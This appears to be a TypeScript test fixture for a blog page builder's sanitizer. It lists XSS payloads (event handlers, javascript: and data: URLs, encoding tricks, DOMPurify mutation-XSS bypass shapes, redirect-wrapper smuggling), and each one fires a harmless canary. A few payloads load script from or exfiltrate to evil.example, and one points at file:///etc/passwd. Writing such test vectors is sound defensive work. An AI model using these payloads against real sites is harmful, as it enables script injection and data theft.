// XSS vectors as DATA, for the jsdom-level tests here and the real-browser tests later. Every payload that could
// run script runs the CANARY statement, which bumps `window.__pwned` of the top window: a harness defines
// `window.__pwned = 0`, renders the output, and checks it stayed 0.
//
// `where` says what the payload is:
//   body        raw HTML of the post body (inserted verbatim into the page / the post's `<div>`)
//   title       the title TEXT (escaped into the page as Hexo does; written as a YAML string in a post)
//   categories  the text of one category level (likewise)
//   tag-link    attribute source text of a tag link's `href` (`tagStyle` says which tag-link markup)
//   cover       attribute source text of `img.headimg src` (a post's `headimg`/`thumbnail` value)

export const CANARY = 'top.__pwned++';
/** The canary as a URL-encoded `javascript:` payload, for redirect parameters. */
const JS_ENC = 'javascript%3Atop.__pwned%2B%2B';

export type Where = 'body' | 'title' | 'categories' | 'tag-link' | 'cover';

export type Family =
  | 'event-handler'
  | 'url-scheme'
  | 'entity-encoding'
  | 'mutation-xss'
  | 'embedding'
  | 'css'
  | 'wrapper'
  | 'markdown-injection'
  | 'text-field';

export interface XssVector {
  id: string;
  family: Family;
  payload: string;
  where: Where;
  /** For `tag-link`: the tag-link markup (page-builder `TagLinkStyle`). */
  tagStyle?: 'ofweek' | 'ithome' | 'cnbeta' | 'plain';
}

const C = CANARY;

export const XSS_VECTORS: readonly XssVector[] = [
  // ---- event handlers
  { id: 'img-onerror', family: 'event-handler', where: 'body', payload: `<p><img src=x onerror="${C}"></p>` },
  { id: 'img-onerror-upper-slash', family: 'event-handler', where: 'body', payload: `<IMG/SRC=x/ONERROR=${C}>` },
  { id: 'img-onerror-entity-handler', family: 'event-handler', where: 'body', payload: `<img src=x onerror="&#116;op.__pwned++">` },
  { id: 'svg-onload', family: 'event-handler', where: 'body', payload: `<svg onload="${C}"><circle r=1></circle></svg>` },
  {
    id: 'svg-animate-onbegin',
    family: 'event-handler',
    where: 'body',
    payload: `<svg><animate onbegin="${C}" attributeName=x dur=1s></animate></svg>`,
  },
  { id: 'body-onload', family: 'event-handler', where: 'body', payload: `<body onload="${C}"><p>x</p>` },
  {
    id: 'details-ontoggle',
    family: 'event-handler',
    where: 'body',
    payload: `<details open ontoggle="${C}"><summary>s</summary>d</details>`,
  },
  { id: 'video-source-onerror', family: 'event-handler', where: 'body', payload: `<video><source onerror="${C}"></video>` },
  { id: 'video-onerror', family: 'event-handler', where: 'body', payload: `<video src=x onerror="${C}" poster=x></video>` },
  { id: 'audio-onerror', family: 'event-handler', where: 'body', payload: `<audio src=x onerror="${C}"></audio>` },
  { id: 'marquee-onstart', family: 'event-handler', where: 'body', payload: `<marquee onstart="${C}">m</marquee>` },
  { id: 'input-autofocus-onfocus', family: 'event-handler', where: 'body', payload: `<input autofocus onfocus="${C}">` },
  { id: 'a-onclick', family: 'event-handler', where: 'body', payload: `<p><a href="https://example.com/" onclick="${C}">link</a></p>` },
  {
    id: 'div-onmouseover',
    family: 'event-handler',
    where: 'body',
    payload: `<div onmouseover="${C}" style="position:fixed;inset:0">cover</div>`,
  },
  {
    id: 'animationstart',
    family: 'event-handler',
    where: 'body',
    payload: `<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart="${C}">p</p>`,
  },
  {
    id: 'iframe-onload',
    family: 'event-handler',
    where: 'body',
    payload: `<iframe onload="${C}" src="https://www.youtube.com/embed/abc"></iframe>`,
  },
  { id: 'pageshow', family: 'event-handler', where: 'body', payload: `<body onpageshow="${C}">` },

  // ---- script / data / vbscript URLs in URL attributes
  { id: 'a-href-javascript', family: 'url-scheme', where: 'body', payload: `<p><a href="javascript:${C}">click</a></p>` },
  { id: 'a-href-mixed-case-space', family: 'url-scheme', where: 'body', payload: `<a href="  JaVaScRiPt:${C}">click</a>` },
  { id: 'a-href-newline', family: 'url-scheme', where: 'body', payload: `<a href="java\nscript:${C}">click</a>` },
  { id: 'a-href-vbscript', family: 'url-scheme', where: 'body', payload: `<a href="vbscript:msgbox(1)">vb</a>` },
  {
    id: 'a-href-data-html',
    family: 'url-scheme',
    where: 'body',
    payload: `<a href="data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZCsrPC9zY3JpcHQ+">d</a>`,
  },
  { id: 'img-src-javascript', family: 'url-scheme', where: 'body', payload: `<img src="javascript:${C}">` },
  {
    id: 'img-srcset-javascript',
    family: 'url-scheme',
    where: 'body',
    payload: `<img src="https://example.com/a.jpg" srcset="javascript:${C} 1x, data:text/html,x 2x">`,
  },
  {
    id: 'button-formaction',
    family: 'url-scheme',
    where: 'body',
    payload: `<form><button formaction="javascript:${C}">go</button></form>`,
  },
  { id: 'input-formaction', family: 'url-scheme', where: 'body', payload: `<form><input type=submit formaction="javascript:${C}"></form>` },
  { id: 'form-action', family: 'url-scheme', where: 'body', payload: `<form action="javascript:${C}"><input type=submit></form>` },
  {
    id: 'svg-xlink-href',
    family: 'url-scheme',
    where: 'body',
    payload: `<svg><a xlink:href="javascript:${C}"><text x=0 y=20>x</text></a></svg>`,
  },
  {
    id: 'video-poster-javascript',
    family: 'url-scheme',
    where: 'body',
    payload: `<video src="https://example.com/v.mp4" poster="javascript:${C}"></video>`,
  },
  {
    id: 'table-background',
    family: 'url-scheme',
    where: 'body',
    payload: `<table background="javascript:${C}"><tr><td>a</td></tr></table>`,
  },
  {
    id: 'area-href',
    family: 'url-scheme',
    where: 'body',
    payload: `<map name=m><area href="javascript:${C}" shape=default></map><img usemap=#m src="https://example.com/a.jpg">`,
  },
  { id: 'blockquote-cite', family: 'url-scheme', where: 'body', payload: `<blockquote cite="javascript:${C}">q</blockquote>` },
  { id: 'img-src-data-svg', family: 'url-scheme', where: 'body', payload: `<img src="data:image/svg+xml,<svg onload='${C}'/>">` },

  // ---- entity and encoding tricks
  { id: 'a-href-tab-entity', family: 'entity-encoding', where: 'body', payload: `<a href="jav&#x09;ascript:${C}">t</a>` },
  { id: 'a-href-decimal-entity', family: 'entity-encoding', where: 'body', payload: `<a href="&#106;avascript:${C}">t</a>` },
  { id: 'a-href-padded-hex-entity', family: 'entity-encoding', where: 'body', payload: `<a href="&#x0000006A;avascript&#x3A;${C}">t</a>` },
  { id: 'a-href-colon-entity', family: 'entity-encoding', where: 'body', payload: `<a href="javascript&colon;${C}">t</a>` },
  { id: 'a-href-leading-control', family: 'entity-encoding', where: 'body', payload: `<a href="&#x01;&#x20;javascript:${C}">t</a>` },
  { id: 'a-href-percent', family: 'entity-encoding', where: 'body', payload: `<a href="javascript:%74op.__pwned%2B%2B">t</a>` },

  // ---- mutation XSS (DOMPurify bypass shapes) and parser-context tricks
  { id: 'svg-style-img', family: 'mutation-xss', where: 'body', payload: `<svg><style><img src=x onerror="${C}"></style></svg>` },
  {
    id: 'math-mtext-mglyph-style',
    family: 'mutation-xss',
    where: 'body',
    payload: `<math><mtext><table><mglyph><style><img src=x onerror="${C}"></style></mglyph></table></mtext></math>`,
  },
  {
    id: 'form-math-namespace-confusion',
    family: 'mutation-xss',
    where: 'body',
    payload: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${C}">`,
  },
  {
    id: 'noscript-title',
    family: 'mutation-xss',
    where: 'body',
    payload: `<noscript><p title="</noscript><img src=x onerror=${C}>"></noscript>`,
  },
  { id: 'svg-p-style-id', family: 'mutation-xss', where: 'body', payload: `<svg></p><style><a id="</style><img src=1 onerror=${C}>">` },
  {
    id: 'math-mi-svg-textarea',
    family: 'mutation-xss',
    where: 'body',
    payload: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${C} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
  },
  {
    id: 'svg-cdata',
    family: 'mutation-xss',
    where: 'body',
    payload: `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${C}//"></svg>`,
  },
  { id: 'template-img', family: 'mutation-xss', where: 'body', payload: `<template><img src=x onerror="${C}"></template>` },
  { id: 'xmp-img', family: 'mutation-xss', where: 'body', payload: `<xmp><img src=x onerror="${C}"></xmp>` },
  { id: 'comment-breakout', family: 'mutation-xss', where: 'body', payload: `<!--><img src=x onerror="${C}">-->` },
  { id: 'p-title-attr-breakout', family: 'mutation-xss', where: 'body', payload: `<p title="</p><img src=x onerror=${C}>">p</p>` },
  {
    id: 'escaped-markup-block',
    family: 'mutation-xss',
    where: 'body',
    payload: `<pre><code>  &lt;div&gt;&lt;p&gt;a&lt;/p&gt;&lt;img src=x onerror="${C}"&gt;&lt;a href="javascript:${C}"&gt;l&lt;/a&gt;&lt;/div&gt;&lt;/section&gt;</code></pre>`,
  },
  {
    id: 'escaped-markup-prose',
    family: 'mutation-xss',
    where: 'body',
    payload: `<p>&lt;p&gt;&lt;img src=x onerror="${C}"&gt;&lt;/p&gt;&lt;script&gt;${C}&lt;/script&gt;&lt;br&gt;</p>`,
  },

  // ---- embedding elements
  { id: 'script-inline', family: 'embedding', where: 'body', payload: `<script>${C}</script><p>after</p>` },
  { id: 'script-src', family: 'embedding', where: 'body', payload: `<script src="https://evil.example/x.js"></script>` },
  { id: 'style-breakout-script', family: 'embedding', where: 'body', payload: `<style></style><script>${C}</script></style>` },
  { id: 'iframe-srcdoc', family: 'embedding', where: 'body', payload: `<iframe srcdoc="&lt;script&gt;${C}&lt;/script&gt;"></iframe>` },
  { id: 'iframe-javascript', family: 'embedding', where: 'body', payload: `<iframe src="javascript:${C}"></iframe>` },
  {
    id: 'iframe-foreign-host',
    family: 'embedding',
    where: 'body',
    payload: `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`,
  },
  {
    id: 'iframe-player-srcdoc',
    family: 'embedding',
    where: 'body',
    payload: `<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>${C}</script>"></iframe>`,
  },
  { id: 'object-data', family: 'embedding', where: 'body', payload: `<object data="javascript:${C}"></object>` },
  { id: 'object-data-html', family: 'embedding', where: 'body', payload: `<object data="data:text/html,<script>${C}</script>"></object>` },
  { id: 'embed-src', family: 'embedding', where: 'body', payload: `<embed src="javascript:${C}">` },
  { id: 'base-href', family: 'embedding', where: 'body', payload: `<base href="javascript:${C}//"><a href="x">rel</a>` },
  { id: 'meta-refresh', family: 'embedding', where: 'body', payload: `<meta http-equiv="refresh" content="0;url=javascript:${C}">` },
  { id: 'link-import', family: 'embedding', where: 'body', payload: `<link rel="stylesheet" href="javascript:${C}">` },
  { id: 'frameset', family: 'embedding', where: 'body', payload: `<frameset onload="${C}"><frame src="javascript:${C}"></frameset>` },

  // ---- CSS
  { id: 'css-url-javascript', family: 'css', where: 'body', payload: `<div style="background:url(javascript:${C})">bg</div>` },
  { id: 'css-import', family: 'css', where: 'body', payload: `<style>@import 'javascript:${C}';</style><p>x</p>` },
  { id: 'css-expression', family: 'css', where: 'body', payload: `<p style="width:expression(${C})">e</p>` },
  {
    id: 'css-binding',
    family: 'css',
    where: 'body',
    payload: `<p style="-moz-binding:url(https://evil.example/x.xml#x);behavior:url(x.htc)">b</p>`,
  },
  {
    id: 'css-style-element-exfil',
    family: 'css',
    where: 'body',
    payload: `<style>input[value^=a]{background:url(https://evil.example/a)}</style><p>s</p>`,
  },

  // ---- javascript: behind the proxy and the link redirects (unwrapping must never produce it)
  { id: 'proxy-img-javascript', family: 'wrapper', where: 'body', payload: `<img src="https://cors.zfour.workers.dev/?javascript:${C}">` },
  {
    id: 'proxy-a-javascript',
    family: 'wrapper',
    where: 'body',
    payload: `<a href="https://cors.zfour.workers.dev/?javascript:${C}">p</a>`,
  },
  { id: 'zhihu-javascript', family: 'wrapper', where: 'body', payload: `<a href="https://link.zhihu.com/?target=${JS_ENC}">z</a>` },
  {
    id: 'gotolink-javascript',
    family: 'wrapper',
    where: 'body',
    payload: `<a href="https://www.oschina.net/action/GoToLink?url=${JS_ENC}">o</a>`,
  },
  { id: 'jianshu-javascript', family: 'wrapper', where: 'body', payload: `<a href="https://links.jianshu.com/go?to=${JS_ENC}">j</a>` },
  {
    id: 'duomai-javascript',
    family: 'wrapper',
    where: 'body',
    payload: `<a href="https://c.duomai.com/track.php?site_id=1&euid=&t=javascript:${C}">d</a>`,
  },
  {
    id: 'proxy-of-zhihu-javascript',
    family: 'wrapper',
    where: 'body',
    payload: `<a href="https://cors.zfour.workers.dev/?http://link.zhihu.com/?target=${JS_ENC}">pz</a>`,
  },
  {
    id: 'proxy-video-data',
    family: 'wrapper',
    where: 'body',
    payload: `<video src="https://cors.zfour.workers.dev/?data:text/html,x" poster="https://cors.zfour.workers.dev/?javascript:${C}"></video>`,
  },
  {
    id: 'proxy-srcset-javascript',
    family: 'wrapper',
    where: 'body',
    payload: `<img src="https://example.com/a.jpg" srcset="https://cors.zfour.workers.dev/?javascript:${C} 2x">`,
  },
  {
    id: 'lazy-data-original-javascript',
    family: 'wrapper',
    where: 'body',
    payload: `<img src="https://cors.zfour.workers.dev/?http://www.yystv.cn/p/undefined" data-original="javascript:${C}">`,
  },

  // ---- Markdown injection through text of the body
  { id: 'md-link-in-text', family: 'markdown-injection', where: 'body', payload: `<p>[click](javascript:${C})</p>` },
  { id: 'md-autolink-in-text', family: 'markdown-injection', where: 'body', payload: `<p>&lt;javascript:${C}&gt;</p>` },
  { id: 'md-html-in-text', family: 'markdown-injection', where: 'body', payload: `<p>&lt;img src=x onerror="${C}"&gt; shown as text</p>` },
  {
    id: 'md-mailto-newline',
    family: 'markdown-injection',
    where: 'body',
    payload: `<p><a href="mailto:a@b.c&#10;&lt;javascript:${C}&gt;">mail</a></p>`,
  },
  {
    id: 'md-image-alt-breakout',
    family: 'markdown-injection',
    where: 'body',
    payload: `<img src="https://example.com/a.jpg" alt="](javascript:${C}) [" title='") [x](javascript:${C})'>`,
  },
  {
    id: 'md-link-text-breakout',
    family: 'markdown-injection',
    where: 'body',
    payload: `<a href="https://example.com/">x](javascript:${C}) [y</a>`,
  },

  // ---- hostile text in the title and the categories (text fields: returned as-is, never markup)
  { id: 'title-img-onerror', family: 'text-field', where: 'title', payload: `<img src=x onerror=${C}>` },
  { id: 'title-script-close', family: 'text-field', where: 'title', payload: `</title><script>${C}</script>` },
  { id: 'title-attr-breakout', family: 'text-field', where: 'title', payload: `"><svg onload=${C}>` },
  { id: 'title-md-link', family: 'text-field', where: 'title', payload: `[标题](javascript:${C})` },
  { id: 'title-template', family: 'text-field', where: 'title', payload: `{{constructor.constructor('${C}')()}}` },
  { id: 'category-img', family: 'text-field', where: 'categories', payload: `<img src=x onerror=${C}>` },
  { id: 'category-javascript', family: 'text-field', where: 'categories', payload: `javascript:${C}` },
  { id: 'category-entity', family: 'text-field', where: 'categories', payload: `&lt;b&gt;&amp;` },

  // ---- tag links (removed as keywords: their href becomes a topic href)
  { id: 'tag-ofweek-javascript', family: 'url-scheme', where: 'tag-link', tagStyle: 'ofweek', payload: `javascript:${C}` },
  { id: 'tag-ithome-tab-entity', family: 'entity-encoding', where: 'tag-link', tagStyle: 'ithome', payload: `jav&#x09;ascript:${C}` },
  { id: 'tag-ithome-vbscript', family: 'url-scheme', where: 'tag-link', tagStyle: 'ithome', payload: `vbscript:msgbox(1)` },
  { id: 'tag-ofweek-data', family: 'url-scheme', where: 'tag-link', tagStyle: 'ofweek', payload: `data:text/html,<script>${C}</script>` },
  { id: 'tag-cnbeta-file', family: 'url-scheme', where: 'tag-link', tagStyle: 'cnbeta', payload: `file:///etc/passwd` },
  {
    id: 'tag-ofweek-zhihu-javascript',
    family: 'wrapper',
    where: 'tag-link',
    tagStyle: 'ofweek',
    payload: `https://link.zhihu.com/?target=${JS_ENC}`,
  },
  {
    id: 'tag-ithome-proxy-javascript',
    family: 'wrapper',
    where: 'tag-link',
    tagStyle: 'ithome',
    payload: `https://cors.zfour.workers.dev/?javascript:${C}`,
  },
  { id: 'tag-ofweek-blob', family: 'url-scheme', where: 'tag-link', tagStyle: 'ofweek', payload: `blob:https://x.ofweek.com/0b1c` },

  // ---- the cover (img.headimg / headimg:)
  { id: 'cover-javascript', family: 'url-scheme', where: 'cover', payload: `javascript:${C}` },
  { id: 'cover-tab-entity', family: 'entity-encoding', where: 'cover', payload: `jav&#x09;ascript:${C}` },
  { id: 'cover-data-html', family: 'url-scheme', where: 'cover', payload: `data:text/html,<script>${C}</script>` },
  { id: 'cover-vbscript', family: 'url-scheme', where: 'cover', payload: `vbscript:msgbox(1)` },
  { id: 'cover-proxy-javascript', family: 'wrapper', where: 'cover', payload: `https://cors.zfour.workers.dev/?javascript:${C}` },
  { id: 'cover-attr-breakout', family: 'mutation-xss', where: 'cover', payload: `x" onerror="${C}` },
];
